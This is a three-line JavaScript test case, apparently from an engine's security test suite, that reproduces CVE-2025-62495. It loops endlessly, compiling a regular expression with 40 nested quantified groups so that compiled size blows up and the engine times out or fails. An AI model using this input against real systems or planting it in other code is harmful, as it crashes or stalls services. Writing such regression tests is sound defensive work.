// expect: timeout | failed
// idea: quantifiers 40 deep multiply the compiled size (CVE-2025-62495)
for (;;) { try { new RegExp("(?:".repeat(40) + "a" + "|)+".repeat(40)).exec("a"); } catch {} }
